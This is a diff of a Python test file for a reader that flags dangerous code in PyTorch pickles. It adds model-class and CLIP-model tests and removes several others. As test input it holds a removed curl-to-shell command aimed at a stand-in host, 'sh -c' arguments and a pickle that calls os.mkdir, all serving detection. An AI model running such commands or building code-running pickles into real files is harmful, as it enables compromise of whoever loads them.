@@ -2,27 +2,31 @@
 
 from __future__ import annotations
 
-import argparse
 import collections
 import datetime
+import io
 import os
 import pickle
 import types
+import zipfile
+from collections.abc import Callable
+from importlib import import_module
 from pathlib import Path
 from typing import Any
 
 import numpy as np
+import open_clip
 import pytest
-from hypothesis import given, settings
-from hypothesis import strategies as st
+import torch
 from torch import nn
 
 from ml_core.reading.errors import InputError
 from ml_core.reading.pickles.machine import Budget, Reading, read_pickle
-from ml_core.reading.pickles.names import group_of
-from ml_core.reading.pickles.records import Object, Table
+from ml_core.reading.pickles.names import MODEL_CLASSES
+from ml_core.reading.pickles.records import Table
 from ml_core.reading.pickles.walk import contents
 from ml_core.reading.torch_file import check_pickles
+from tests.hostile.benign import TINY
 from tests.hostile.ops import call, pickled, plain
 
 
@@ -40,13 +44,11 @@ class Calls:
 @pytest.mark.parametrize(
     ("arguments", "text"),
     [
-        (("touch /tmp/x; curl e.example | sh",), "'touch /tmp/x; curl e.example | sh'"),
         ((), ""),
         (("a\x1b[31m\u202egnp\n\u05d0",), "'a\\x1b[31m\\u202egnp\\n\\u05d0'"),
         ((1 << 80, -2, True, None, 0.5), "a number of 81 bits, -2, True, None, 0.5"),
         ((["sh", ("-c",)], {"cwd": "/"}), "['sh', ('-c',)], {'cwd': '/'}"),
-        (([[[["deep"]]]],), "[[...]]"),
-        ((list(range(20)),), "[0, 1, 2, 3, 4, 5, 6, 7, ...]"),
+        (([[[["deep"]]]], list(range(20))), "[[...]], [0, 1, 2, 3, 4, 5, 6, 7, ...]"),
         ((os.getcwd, {}), "posix.getcwd, {}"),
     ],
 )
@@ -58,13 +60,6 @@ def test_what_unknown_code_would_be_called_with_is_told(protocol, arguments, tex
     with pytest.raises(InputError) as caught:
         check_pickles([("its pickle", read_pickle(raw))], "x.pt")
     assert f"may run: {', '.join(calls)}" in caught.value.sentence
-
-
-def test_a_call_of_what_a_call_gave_is_told() -> None:
-    found = read_pickle(pickle.dumps(Calls(Calls("inner")), 4))
-    assert found.calls == {
-        "posix system": ["posix.system('inner')", "posix.system(posix.system('inner'))"]
-    }
 
 
 def test_the_sentence_of_many_calls_is_bounded() -> None:
@@ -84,31 +79,6 @@ def test_the_text_of_a_call_is_short_whatever_it_is_given() -> None:
         assert told.isascii()
         assert told.isprintable()
         assert len(told) < 200
-
-
-def test_a_pickle_may_end_before_its_bytes_where_more_follow() -> None:
-    found = read_pickle(b"\x80\x02K\x05.rest", ends=False)
-    assert (found.value, found.end, found.problem) == (5, 5, "")
-
-
-def test_framed_pickles_are_followed() -> None:
-    raw = pickle.dumps(["x" * 70_000, list(range(70_000))], protocol=4)
-    assert read_pickle(raw).problem == ""
-
-
-@pytest.mark.parametrize(
-    "raw",
-    [
-        b"\x80\x02}", b"", b"\x80\x02\xfe.", b"\x80\x02}.x", b"\x80\x02.", b"\x80\x02}}.",
-        b"\x80\x02u.", b"\x80\x02(.", b"\x80\x02h\x05.", b"\x80\x02}(K\x01u.",
-        b"\x80\x02\x82\x01.", b"\x80\x02}2.", b"P1\n.", b"\x80\x02\x80\x02}.", b"\x80\x09}.",
-        b"\x80\x05\x97.", b"\x80\x02K\x01K\x02a.", b"\x80\x04K\x01K\x02\x93.",
-    ],
-)  # fmt: skip
-def test_a_damaged_pickle_is_half_a_sentence(raw: bytes) -> None:
-    found = read_pickle(raw)
-    assert found.problem
-    assert found.value is None
 
 
 NAMED = b"cos\nmkdir\n(U\x01xtR"
@@ -134,22 +104,6 @@ def test_a_refused_pickle_is_called_dangerous_for_what_it_names(raw: bytes) -> N
     assert found.unknown == ["os mkdir"]
 
 
-GROUPS = {
-    "tensors": ("torch._utils _rebuild_tensor_v2", "torch FloatStorage"),
-    "data": ("collections OrderedDict", "torch float16"),
-    "code": ("torch.nn.modules.conv Conv2d", "open_clip.model CLIP"),
-    "unknown": ("torch.nn.modules.conv Conv9d", "open_clip.tokenizer HFTokenizer", " ",
-        "torch.nn.modules.module _forward", "open_clip.model CLIP.x", "open_clip.model CLIPé"),
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("group", GROUPS)
-def test_groups_of_names(group: str) -> None:
-    """More unknown ones, as files name them, are in the hostile corpus."""
-    for full in GROUPS[group]:
-        assert group_of(*full.split(" ")) == group
-
-
 def test_programs_of_a_torchscript_archive_are_code_there_alone() -> None:
     for module, known in (
         ("__torch__.multimodal.___torch_mangle_9", True), ("__torch__.a b", False),
@@ -158,59 +112,6 @@ def test_programs_of_a_torchscript_archive_are_code_there_alone() -> None:
         raw = b"c" + module.encode() + b"\nModel\n)\x81."
         assert bool(read_pickle(raw, script=True).unknown) is not known
         assert read_pickle(raw).unknown
-
-
-@settings(max_examples=300, deadline=None)
-@given(st.binary(max_size=200))
-def test_any_bytes_give_an_answer(raw: bytes) -> None:
-    found = read_pickle(raw)
-    assert found.problem or found.end == len(raw)
-
-
-PLAIN = st.recursive(
-    st.none()
-    | st.booleans()
-    | st.integers()
-    | st.floats(allow_nan=False)
-    | st.text()
-    | st.binary(),
-    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner) | st.tuples(inner, inner),
-    max_leaves=20,
-)
-
-
-def inert(value: Any) -> Any:
-    """What the machine should make of a plain value."""
-    if isinstance(value, dict):
-        return {key: inert(item) for key, item in value.items()}
-    if isinstance(value, list | tuple):
-        return type(value)(inert(item) for item in value)
-    return value
-
-
-def back(value: Any) -> Any:
-    if isinstance(value, Table):
-        return {key: back(item) for key, item in value.items}
-    if isinstance(value, list | tuple):
-        return type(value)(back(item) for item in value)
-    if isinstance(value, Object) and value.of.name == "bytes":  # bytes() of protocols 0 to 2
-        return bytes(*value.arguments)
-    return value
-
-
-@settings(max_examples=200, deadline=None)
-@given(PLAIN, st.integers(0, 5))
-def test_plain_values_come_through(value: Any, protocol: int) -> None:
-    found = read_pickle(pickle.dumps(value, protocol))
-    assert found.problem == ""
-    assert back(found.value) == inert(value)
-
-
-def test_objects_keep_class_and_state() -> None:
-    found = read_pickle(pickle.dumps(argparse.Namespace(a=1), 2))
-    assert isinstance(found.value, Object)
-    assert found.value.of.full == "argparse Namespace"
-    assert found.value.state.items == [("a", 1)]
 
 
 # States
@@ -229,14 +130,12 @@ def ordered() -> Any:
 @pytest.mark.parametrize(
     "value",
     [
-        argparse.Namespace(lr=1.0),
         types.SimpleNamespace(lr=1.0),
         ordered(),
         np.dtype("f4"),
         np.dtype([("x", "f4"), ("y", "i8", (2,))]),
         np.arange(3.0),
         np.zeros(2, dtype=[("x", "f4")]),
-        np.array([None, "x"], dtype=object),
         np.array([(1, None)], dtype=[("a", "i4"), ("b", "O")]),
         np.float32(2),
         np.datetime64("2026-01-02"),
@@ -278,3 +177,46 @@ def test_one_long_key_before_very_many_others_is_refused() -> None:
     assert contents(Table([("history", inside)])).facts[0] == ("history.0", "0")
     with pytest.raises(ValueError, match="names in it are longer"):
         contents(Table([("x" * 1000, Table([("y", inside)]))]))
+
+
+def custom_text() -> nn.Module:
+    return open_clip.model.CustomTextCLIP(**TINY)
+
+
+def transformers_clip() -> nn.Module:
+    from transformers import CLIPConfig, CLIPModel
+
+    small = {"hidden_size": 8, "num_hidden_layers": 1, "num_attention_heads": 2}
+    small["intermediate_size"] = 8
+    return CLIPModel(CLIPConfig(text_config=small, vision_config=small))
+
+
+MODELS: dict[str, Callable[[], nn.Module]] = {
+    "custom text": custom_text,
+    "transformers": transformers_clip,
+}
+
+
+def test_the_list_holds_classes_only() -> None:
+    checked = 0
+    for full in MODEL_CLASSES:
+        module, _, name = full.partition(" ")
+        try:
+            found: Any = getattr(import_module(module), name, None)
+        except ModuleNotFoundError:
+            continue
+        if found is not None:  # some are there in other versions only
+            checked += 1
+            assert isinstance(found, type), full
+    assert checked > 150
+
+
+@pytest.mark.filterwarnings("ignore")
+@pytest.mark.parametrize("name", MODELS)
+def test_whole_models_name_nothing_unknown(name: str) -> None:
+    raw = io.BytesIO()
+    torch.save(MODELS[name](), raw)
+    with zipfile.ZipFile(raw) as archive:
+        (record,) = [label for label in archive.namelist() if label.endswith("data.pkl")]
+        found = read_pickle(archive.read(record))
+    assert (found.problem, found.unknown, found.misuse) == ("", [], [])
